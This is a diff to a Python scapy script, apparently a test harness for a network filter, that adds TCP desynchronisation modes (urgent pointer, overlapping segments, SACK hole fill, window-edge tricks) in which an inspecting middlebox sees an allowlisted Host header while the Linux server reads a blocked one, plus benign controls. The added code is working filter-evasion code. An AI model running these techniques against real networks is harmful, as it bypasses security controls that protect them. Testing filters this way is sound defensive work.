@@ -41,6 +41,29 @@ MODE
                   daemon meanwhile)
   After these, prints "answer: <status line>" when the server answered and
   "reset" when a reset came back.
+The neighbours (issue 11): each inspects as the allowlisted GOOD name while
+the server's stack is led to read HOST; MODE-benign does the same moves
+with GOOD only (the server must answer it):
+  urgent          "GET / HTTP/1.1\r\n", then "ZHost: HOST\r\nHost: GOOD\r\n\r\n"
+                  with URG and the urgent pointer on the "Z": Linux reads it out
+                  of band, so the server's first Host is HOST (benign: no URG,
+                  an X-Note line instead)
+  overlap         the request's tail from its Host (GOOD) out of order, then
+                  from the same start a longer tail naming HOST (Linux's
+                  out-of-order queue keeps the longer), then the head (benign:
+                  the same tail twice)
+  sack-fill       SACK permitted; the tail from the Host's third byte (GOOD)
+                  out of order, leaving a hole, then the whole request naming
+                  HOST filling it (Linux delivers the in-order fill) (benign:
+                  the fill names GOOD)
+  window-edge     the request's tail with its Host (GOOD) at exactly the
+                  server's right window edge (the SYN-ACK's window; conntrack
+                  takes a segment starting there, Linux's receiver drops it),
+                  then the head filling the window, then the tail again
+                  naming HOST, three times (benign: GOOD again)
+  window-straddle the same with the tail from two bytes before the edge
+For these, DST may be a comma-separated list (each gets the flow, from
+SPORT on) and MODE+benign runs the benign moves after the attacks.
 Prints what it did; exit status 0 unless scapy failed."""
 import sys
 import time
@@ -145,6 +168,80 @@ def insertion(mode, ip, dst, dport, sport, host, pid=None):
     return 0
 
 
+GOOD = "x.xxxxxxxx.example.com"  # allowlisted (.example.com), as long as x.malicious-domain.com
+
+
+def handshake(ip, sport, dport, isn):
+    """(the server's next sequence number, its SYN-ACK window) or None."""
+    sa = sr1(ip / TCP(sport=sport, dport=dport, flags="S", seq=isn, options=[("MSS", 1400), ("SAckOK", b"")]),
+             timeout=3)
+    if sa is None or TCP not in sa:
+        return None
+    return sa[TCP].seq + 1, sa[TCP].window
+
+
+NEIGHBOURS = ("urgent", "overlap", "sack-fill", "window-edge", "window-straddle")
+
+
+def neighbour(mode, ip, dport, sport, host):
+    benign = mode.endswith("-benign")
+    mode = mode[:-len("-benign")] if benign else mode
+    isn = 300000
+    hs = handshake(ip, sport, dport, isn)
+    if hs is None:
+        print("no SYN-ACK")
+        return 0
+    ack, win = hs
+
+    def seg(off, data, flags="PA", urgptr=0):
+        send(ip / TCP(sport=sport, dport=dport, flags=flags, seq=isn + 1 + off, ack=ack, urgptr=urgptr)
+             / Raw(data))
+        time.sleep(0.05)
+
+    head = b"GET / HTTP/1.1\r\n"
+    good = head + b"Host: " + GOOD.encode() + b"\r\n\r\n"
+    at = len(head) + len(b"Host: ")
+    if mode == "urgent":
+        seg(0, head)
+        if benign:
+            seg(len(head), b"X-Note: 1\r\nHost: " + GOOD.encode() + b"\r\n\r\n")
+        else:
+            # Linux (tcp_stdurg 0) takes the byte before seq + pointer: the Z
+            seg(len(head), b"ZHost: " + host.encode() + b"\r\nHost: " + GOOD.encode() + b"\r\n\r\n", "PAU", 1)
+    elif mode == "overlap":
+        other = good if benign else head + b"Host: " + host.encode() + b"\r\nX-Longer: 1\r\n\r\n"
+        seg(at, good[at:])
+        seg(at, other[at:])
+        seg(0, good[:at])
+    elif mode == "sack-fill":
+        fill = good if benign else head + b"Host: " + host.encode() + b"\r\n\r\n"
+        assert len(fill) == len(good) and fill[:at + 2] == good[:at + 2]
+        seg(at + 2, good[at + 2:])
+        time.sleep(0.2)
+        seg(0, fill)
+    elif mode in ("window-edge", "window-straddle"):
+        pre = head + b"X-Pad: "
+        first = pre + b"a" * (win - len(pre) - 2) + b"\r\n"
+        assert len(first) == win, (len(first), win)
+        # at the edge, or from the head's last two bytes: across it
+        at = win if mode == "window-edge" else win - 2
+        tail = first[at:] + b"Host: " + GOOD.encode() + b"\r\n\r\n"
+        seg(at, tail)
+        for off in range(0, win, 1400):
+            seg(off, first[off:off + 1400])
+        time.sleep(1)
+        again = tail if benign else first[at:] + b"Host: " + host.encode() + b"\r\n\r\n"
+        for _ in range(3):
+            seg(at, again)
+            time.sleep(0.5)
+    else:
+        print("unknown mode", mode)
+        return 2
+    time.sleep(0.3)
+    print("%s%s sent (window %d)" % (mode, "-benign" if benign else "", win))
+    return 0
+
+
 def main():
     mode, dst, dport, sport, host = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), sys.argv[5]
     if mode == "split3":
@@ -189,6 +286,16 @@ def main():
             print("big-hello sent; answer:", len(s.recv(100)))
         except OSError as e:
             print("big-hello:", e)
+        return 0
+    if mode.split("+")[0] in NEIGHBOURS:
+        # One process for several flows (scapy takes seconds to load): the
+        # attack to each of DST (comma-separated), then with "+benign" the
+        # benign moves to each, from SPORT, SPORT+1, ...
+        modes = [mode.split("+")[0]] + ([mode.split("+")[0] + "-benign"] if mode.endswith("+benign") else [])
+        for m in modes:
+            for d in dst.split(","):
+                neighbour(m, ipl(d), dport, sport, host)
+                sport += 1
         return 0
     ip = ipl(dst)
     if mode in ("paws", "old-ack", "forged-ack", "retrans", "reload", "restart"):
